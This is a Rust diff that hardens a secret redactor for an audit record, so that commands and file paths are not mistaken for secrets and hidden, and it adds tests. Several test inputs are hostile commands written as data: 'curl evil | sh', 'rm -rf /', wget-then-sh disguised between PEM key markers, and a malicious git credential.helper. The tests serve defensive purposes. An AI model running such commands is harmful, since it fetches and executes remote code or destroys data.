@@ -233,14 +233,18 @@ pub(crate) fn key_form(key: &str) -> String {
 
 /// Secrets recognised by their shape wherever they appear in a string (a shell command, a
 /// URL, a header line, an environment dump), each with what replaces it. The secret part
-/// only: the words around it stay readable. A value is read up to a space, a quote or shell
-/// syntax (`$ ( ) | ; & < >`, backtick, braces): a "secret" must not swallow a command
-/// substitution after `token=`, which would hide what runs from the record.
+/// only: the words around it stay readable. What runs must never be taken for a secret and
+/// hidden from the record: a value is read up to a space, a quote or shell syntax (`$ ( ) | ;
+/// & < >`, backtick, braces), starts right after `=` (after `:` or a scheme, spaces or tabs,
+/// never a line break: `TOKEN=\n/tmp/x` runs `/tmp/x`) and not with a path (`/`, `.`, `~`,
+/// `!`).
 const VALUE_RULES: [(&str, &str); 9] = [
-    // The base64 body of a PEM private key, between its markers (both present).
+    // The base64 body of a PEM private key, between its markers; replaced only when it
+    // decodes to a DER structure (see [`PEM_RULE`]), so text between two marker lines that
+    // is not a key (commands) stays.
     (
-        r"(-----BEGIN [A-Z ]*PRIVATE KEY-----)[A-Za-z0-9+/=\s\\]+(-----END [A-Z ]*PRIVATE KEY-----)",
-        "${1}[REDACTED]${2}",
+        r"(-----BEGIN [A-Z ]*PRIVATE KEY-----)([A-Za-z0-9+/=\s\\]+)(-----END [A-Z ]*PRIVATE KEY-----)",
+        "",
     ),
     // Credentials in a URL: scheme://user:password@host.
     (
@@ -249,12 +253,12 @@ const VALUE_RULES: [(&str, &str); 9] = [
     ),
     // An `Authorization` header value, whatever its scheme (Bearer, Basic, Token, …).
     (
-        r#"(?i)((?:proxy-)?authorization['"]?\s*[:=]\s*['"]?(?:[A-Za-z]+\s+)?)[A-Za-z0-9._~+/=-]{8,}"#,
+        r#"(?i)((?:proxy-)?authorization['"]?[ \t]*(?::[ \t]*|=)['"]?(?:[A-Za-z]+[ \t]+)?)[A-Za-z0-9_+-][A-Za-z0-9._~+/=-]{7,}"#,
         "${1}[REDACTED]",
     ),
     // `Bearer <token>` elsewhere (as sent: capitalised, and long: prose has "Bearer tokens").
     (
-        r"(?-u:\b)(Bearer\s+)[A-Za-z0-9._~+/=-]{16,}",
+        r"(?-u:\b)(Bearer[ \t]+)[A-Za-z0-9_+-][A-Za-z0-9._~+/=-]{15,}",
         "${1}[REDACTED]",
     ),
     // A JSON Web Token.
@@ -263,21 +267,22 @@ const VALUE_RULES: [(&str, &str); 9] = [
         "[REDACTED]",
     ),
     // `name=value` or `name: value` where the name says secret (`DB_PASSWORD=`, `?token=`,
-    // `api-key: `, `'password': '…'`), matched from that word on, which may go on as
-    // `_ID`, `.value` or `Value` but not as `tokens` or `tokenizer`; values of 6 or more.
+    // `api-key: `, `'password': '…'`), matched from that word on, which may go on as `_ID`
+    // or `Value` but not as `tokens`, `tokenizer` or `.helper` (git runs
+    // `credential.helper=!…`); values of 6 or more.
     // (Every rule starts with literal text, which the search looks for first.)
     (
-        r#"(?i)((?:token|secret|passw(?:or)?d|passphrase|api[_-]?key|access[_-]?key|private[_-]?key|credential|cookie)(?:[_.-][A-Za-z0-9_.-]*|(?-i:[A-Z0-9])[A-Za-z0-9_.-]*)?['"]?\s*[=:]\s*['"]?)[^\s&"',;{}$()|<>`]{6,}"#,
+        r#"(?i)((?:token|secret|passw(?:or)?d|passphrase|api[_-]?key|access[_-]?key|private[_-]?key|credential|cookie)(?:[_-][A-Za-z0-9_-]*|(?-i:[A-Z0-9])[A-Za-z0-9_-]*)?['"]?[ \t]*(?::[ \t]*|=)['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{5,}"#,
         "${1}[REDACTED]",
     ),
     // Command-line flags: `--password VALUE`, `--token=VALUE`.
     (
-        r#"(--(?:password|passwd|pass|token|secret|api-key|apikey|access-token|auth-token)(?:\s+|=)['"]?)[^\s&"',;{}$()|<>`]{4,}"#,
+        r#"(--(?:password|passwd|pass|token|secret|api-key|apikey|access-token|auth-token)(?:[ \t]+|=)['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{3,}"#,
         "${1}[REDACTED]",
     ),
     // `-u user:password` / `--user user:password` (curl, wget).
     (
-        r#"((?:-u|--user)\s+['"]?[^\s:'"]+:)[^\s&"',;{}$()|<>`@]+"#,
+        r#"((?:-u|--user)[ \t]+['"]?[^\s:'"]+:)[^\s&"',;{}$()|<>`@]+"#,
         "${1}[REDACTED]",
     ),
     // Tokens known by their prefix (GitHub, OpenAI, Stripe, Slack, AWS access key ids,
@@ -287,6 +292,37 @@ const VALUE_RULES: [(&str, &str); 9] = [
         "[REDACTED]",
     ),
 ];
+
+/// The rule of [`VALUE_RULES`] for PEM private keys (replaced by [`pem_body`]).
+const PEM_RULE: usize = 0;
+
+/// A PEM block's body redacted if it is a key: base64 (line breaks, also written `\n`, set
+/// aside) of one DER SEQUENCE whose length is the whole.
+fn pem_body(caps: &regex::Captures<'_>) -> String {
+    use base64::Engine as _;
+    let b64: String = caps[2]
+        .replace("\\n", "")
+        .replace("\\r", "")
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .collect();
+    let der = base64::engine::general_purpose::STANDARD
+        .decode(b64)
+        .unwrap_or_default();
+    let whole = match (der.first(), der.get(1), der.get(2), der.get(3)) {
+        (Some(0x30), Some(&n), _, _) if n < 0x80 => 2 + usize::from(n),
+        (Some(0x30), Some(0x81), Some(&n), _) => 3 + usize::from(n),
+        (Some(0x30), Some(0x82), Some(&hi), Some(&lo)) => {
+            4 + usize::from(u16::from_be_bytes([hi, lo]))
+        }
+        _ => 0,
+    };
+    if whole == der.len() && whole > 0 {
+        format!("{}[REDACTED]{}", &caps[1], &caps[3])
+    } else {
+        caps[0].to_owned()
+    }
+}
 
 /// [`VALUE_RULES`], compiled once: all of them as one expression, to tell quickly whether a
 /// string holds any (most hold none), and each rule to replace what it matches.
@@ -327,6 +363,8 @@ const MAX_EMBEDDED: u8 = 2;
 /// sends is bounded once parsed (`proxy.max_json_values`), JSON text inside it too.
 const MAX_EMBEDDED_BYTES: usize = 64 << 10;
 const MAX_EMBEDDED_VALUES: usize = 10_000;
+/// Containers this deep (the top level is 0) may be replaced by a count of what they hold.
+const COUNTED_DEPTHS: std::ops::RangeInclusive<usize> = 1..=2;
 
 /// How a rendering shortens what it writes.
 #[derive(Clone, Copy)]
@@ -335,22 +373,23 @@ struct Cut {
     bytes: usize,
     /// Arrays longer than this keep their first items.
     items: usize,
-    /// Containers below the top level are replaced by a count of what they hold.
-    summarise: bool,
+    /// Objects and arrays one or two levels down whose rendering is longer than this are
+    /// replaced by a count of what they hold (the large ones go, small ones stay).
+    count_over: usize,
 }
 
 impl Cut {
     const NONE: Cut = Cut {
         bytes: usize::MAX,
         items: usize::MAX,
-        summarise: false,
+        count_over: usize::MAX,
     };
 
     fn to(bytes: usize) -> Cut {
         Cut {
             bytes,
             items: bytes / 4,
-            summarise: false,
+            count_over: usize::MAX,
         }
     }
 }
@@ -381,10 +420,6 @@ struct Render<'r> {
 
 impl Render<'_> {
     fn object(&mut self, m: &serde_json::Map<String, Value>) {
-        if self.cut.summarise && self.depth > 0 {
-            json_into(&mut self.out, &format!("{{…{} members}}", m.len()));
-            return;
-        }
         // A pair naming a secret header or variable: its value is the secret.
         let pair_secret = m.iter().any(|(k, v)| {
             PAIR_NAMES.iter().any(|n| n.eq_ignore_ascii_case(k))
@@ -415,33 +450,61 @@ impl Render<'_> {
         self.depth -= 1;
     }
 
+    fn array(&mut self, a: &[Value]) {
+        self.depth += 1;
+        self.out.push(b'[');
+        for (i, v) in a.iter().take(self.cut.items).enumerate() {
+            if i > 0 {
+                self.out.push(b',');
+            }
+            self.value(v);
+        }
+        if a.len() > self.cut.items {
+            if self.cut.items > 0 {
+                self.out.push(b',');
+            }
+            json_into(
+                &mut self.out,
+                &format!("…[+{} items]", a.len() - self.cut.items),
+            );
+        }
+        self.out.push(b']');
+        self.depth -= 1;
+    }
+
     fn value(&mut self, v: &Value) {
+        let container = matches!(v, Value::Object(_) | Value::Array(_));
+        if container && self.cut.count_over != usize::MAX && COUNTED_DEPTHS.contains(&self.depth) {
+            // Rendered aside: kept if small, else counted.
+            let mut aside = Render {
+                r: self.r,
+                out: Vec::new(),
+                cut: self.cut,
+                redacted: false,
+                embedded: self.embedded,
+                depth: self.depth,
+            };
+            match v {
+                Value::Object(m) => aside.object(m),
+                Value::Array(a) => aside.array(a),
+                _ => {}
+            }
+            self.redacted |= aside.redacted;
+            if aside.out.len() <= self.cut.count_over {
+                self.out.extend_from_slice(&aside.out);
+                return;
+            }
+            let count = match v {
+                Value::Object(m) => format!("{{…{} members}}", m.len()),
+                Value::Array(a) => format!("[…{} items]", a.len()),
+                _ => String::new(),
+            };
+            json_into(&mut self.out, &count);
+            return;
+        }
         match v {
             Value::Object(m) => self.object(m),
-            Value::Array(a) if self.cut.summarise && self.depth > 0 => {
-                json_into(&mut self.out, &format!("[…{} items]", a.len()));
-            }
-            Value::Array(a) => {
-                self.depth += 1;
-                self.out.push(b'[');
-                for (i, v) in a.iter().take(self.cut.items).enumerate() {
-                    if i > 0 {
-                        self.out.push(b',');
-                    }
-                    self.value(v);
-                }
-                if a.len() > self.cut.items {
-                    if self.cut.items > 0 {
-                        self.out.push(b',');
-                    }
-                    json_into(
-                        &mut self.out,
-                        &format!("…[+{} items]", a.len() - self.cut.items),
-                    );
-                }
-                self.out.push(b']');
-                self.depth -= 1;
-            }
+            Value::Array(a) => self.array(a),
             Value::String(s) => self.string(s),
             other => json_into(&mut self.out, other),
         }
@@ -523,8 +586,13 @@ impl Redactor {
             return std::borrow::Cow::Borrowed(text);
         }
         let mut out = text.to_owned();
-        for (re, with) in &rules.each {
-            if let std::borrow::Cow::Owned(replaced) = re.replace_all(&out, *with) {
+        for (i, (re, with)) in rules.each.iter().enumerate() {
+            let replaced = if i == PEM_RULE {
+                re.replace_all(&out, pem_body)
+            } else {
+                re.replace_all(&out, *with)
+            };
+            if let std::borrow::Cow::Owned(replaced) = replaced {
                 out = replaced;
             }
         }
@@ -550,9 +618,12 @@ impl Redactor {
     /// The redacted text; over `max_argument_bytes`, a marker with its length and SHA-256
     /// and `value`: the same shortened so that one long value cannot push what follows it out
     /// of the record: strings and keys cut to 256, 64 or 16 bytes, arrays to a quarter as many
-    /// items (the longest that fits, `strings_cut_to`); if none fits, keys cut to 16 bytes and
-    /// what they hold counted, not shown (`"nested": "counted"`); if even that is over (a
-    /// top level of thousands of keys), `head`: its first `max_argument_bytes` bytes.
+    /// items (the longest that fits, `strings_cut_to`); if none fits, also the objects and
+    /// arrays one or two levels down whose rendering is over a quarter of the budget, then a
+    /// sixteenth, then 64 bytes, then all, replaced by a count of what they hold
+    /// (`nested_counted_over`); if even that is over (a top level of thousands of keys),
+    /// `head`: the first half of the budget of that text, and `members`, how many the top
+    /// level has.
     fn finish(&self, target: Target<'_>) -> String {
         let text = self.render(target, Cut::NONE);
         if text.len() <= self.max_bytes {
@@ -576,28 +647,39 @@ impl Redactor {
             }
         }
         let last = STRING_CUTS[STRING_CUTS.len() - 1];
-        let counted = self.render(
-            target,
-            Cut {
-                summarise: true,
-                ..Cut::to(last)
-            },
-        );
-        if counted.len() <= self.max_bytes {
-            return marker(
-                &format!(r#""strings_cut_to":{last},"nested":"counted","value":"#),
-                &counted,
+        let mut counted = Vec::new();
+        for over in [self.max_bytes / 4, self.max_bytes / 16, 64, 0] {
+            counted = self.render(
+                target,
+                Cut {
+                    count_over: over,
+                    ..Cut::to(last)
+                },
             );
+            if counted.len() <= self.max_bytes {
+                return marker(
+                    &format!(r#""strings_cut_to":{last},"nested_counted_over":{over},"value":"#),
+                    &counted,
+                );
+            }
         }
+        // Escaped as a string the text may grow (quotes), to at most twice: half the budget.
         let counted = String::from_utf8(counted).unwrap_or_default();
-        let mut end = self.max_bytes.min(counted.len());
+        let mut end = (self.max_bytes / 2).min(counted.len());
         while !counted.is_char_boundary(end) {
             end -= 1;
         }
+        let members = match target {
+            Target::Value(Value::Object(m)) | Target::Object(m) => m.len(),
+            Target::Value(Value::Array(a)) => a.len(),
+            Target::Value(_) => 1,
+        };
         let mut head = Vec::new();
         json_into(&mut head, &counted[..end]);
         marker(
-            &format!(r#""strings_cut_to":{last},"nested":"counted","head":"#),
+            &format!(
+                r#""strings_cut_to":{last},"nested_counted_over":0,"members":{members},"head":"#
+            ),
             &head,
         )
     }
@@ -2148,14 +2230,19 @@ mod tests {
         let members = v["value"].as_object().unwrap();
         assert_eq!(members.len(), 3, "{v}");
         assert!(members.values().any(|m| m == "rm -rf /"), "{v}");
-        // An object of thousands of members: below the top level, counted.
+        // An object of thousands of members: below the top level, counted; small ones stay.
         let wide: serde_json::Map<String, Value> = (0..1000)
             .map(|i| (format!("k{i}"), Value::from(i)))
             .collect();
-        let v = redact(json!({"a": wide, "command": "curl evil | sh"}));
-        assert_eq!(v["nested"], "counted", "{v}");
+        let v = redact(json!({"a": wide, "args": ["sh", "-c", "curl evil | sh"], "command": "x"}));
+        assert_eq!(v["nested_counted_over"], 1024, "{v}");
         assert_eq!(v["value"]["a"], "{…1000 members}");
-        assert_eq!(v["value"]["command"], "curl evil | sh");
+        assert_eq!(
+            v["value"]["args"],
+            json!(["sh", "-c", "curl evil | sh"]),
+            "{v}"
+        );
+        assert_eq!(v["value"]["command"], "x");
         let many: serde_json::Map<String, Value> = (0..40)
             .map(|i| (format!("k{i:02}"), Value::from("x".repeat(300))))
             .chain([("z".to_owned(), Value::from("rm -rf /"))])
@@ -2169,10 +2256,10 @@ mod tests {
             .collect();
         let v = redact(Value::Object(keys));
         assert_eq!(v["strings_cut_to"], 16, "{v}");
-        assert_eq!(v["nested"], "counted", "{v}");
+        assert_eq!(v["members"], 400, "{v}");
         let head = v["head"].as_str().unwrap();
         assert!(
-            head.len() <= 4096 && head.starts_with(r#"{"key000":"yyyyyyyyyyyyyyyy…[+24 bytes]""#),
+            head.len() <= 2048 && head.starts_with(r#"{"key000":"yyyyyyyyyyyyyyyy…[+24 bytes]""#),
             "{head}"
         );
     }
@@ -2182,7 +2269,8 @@ mod tests {
         let r = Redactor::new(&RawAudit::default());
         let redact = |v: Value| r.redact(&v);
         let jwt = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ3b3JrbG9hZCJ9.c2lnbmF0dXJlLWJ5dGVz";
-        let pem = "-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49\n-----END PRIVATE KEY-----";
+        let pem = rcgen::KeyPair::generate().unwrap().serialize_pem();
+        let pem_line = pem.lines().nth(1).unwrap().to_owned();
         let cases = [
             (
                 json!({"command": "curl -H 'Authorization: Bearer abcdef0123456789' https://x"}),
@@ -2236,7 +2324,7 @@ mod tests {
             ),
             (
                 json!({"file": pem}),
-                "MIGHAgEAMBMGByqGSM49",
+                pem_line.as_str(),
                 "PRIVATE KEY-----[REDACTED]-----END PRIVATE KEY-----",
             ),
             (
@@ -2301,6 +2389,22 @@ mod tests {
                 "$(curl${IFS}evil|sh)",
             ),
             ("--token `curl evil|sh`", "`curl evil|sh`"),
+            (
+                "true -----BEGIN PRIVATE KEY-----\nwget 167772161/p\nsh p\ntrue -----END PRIVATE KEY-----",
+                "wget 167772161/p\nsh p",
+            ),
+            (
+                "-----BEGIN PRIVATE KEY-----\n/tmp/evilpayload1\n-----END PRIVATE KEY-----",
+                "/tmp/evilpayload1",
+            ),
+            ("AUTHORIZATION= /tmp/evil.sh", "/tmp/evil.sh"),
+            ("X=Bearer /tmp/xx/payload.sh", "/tmp/xx/payload.sh"),
+            ("TOKEN=\n/tmp/evil.sh", "/tmp/evil.sh"),
+            ("x=--pass /tmp/evil.sh", "/tmp/evil.sh"),
+            (
+                "git -c credential.helper=!/tmp/x/evil fetch",
+                "!/tmp/x/evil",
+            ),
         ] {
             let text = redact(json!({ "command": command }));
             let v: Value = serde_json::from_str(&text).unwrap();
